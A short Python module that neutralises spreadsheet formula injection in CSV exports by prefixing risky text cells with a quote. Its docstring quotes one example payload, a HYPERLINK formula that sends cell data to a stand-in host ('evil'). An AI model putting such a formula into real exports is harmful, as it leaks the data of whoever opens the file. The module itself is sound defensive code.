"""Spreadsheet cells that stay text: every CSV export writes its cells through `cell_neutralise`.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and, after
trimming, tab or carriage return) as a formula, so a page title or a question such as
`=HYPERLINK("http://evil/?"&A1)` in an export runs when an editor opens it (OWASP "CSV Injection"). A
leading `'` makes the application show the text as typed; numbers are left alone, so negative figures stay
numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def cell_neutralise(value: Any) -> Any:
    """`value`, with a `'` in front when it is text a spreadsheet would evaluate as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def row_neutralise(values: Iterable[Any]) -> list[Any]:
    return [cell_neutralise(value) for value in values]
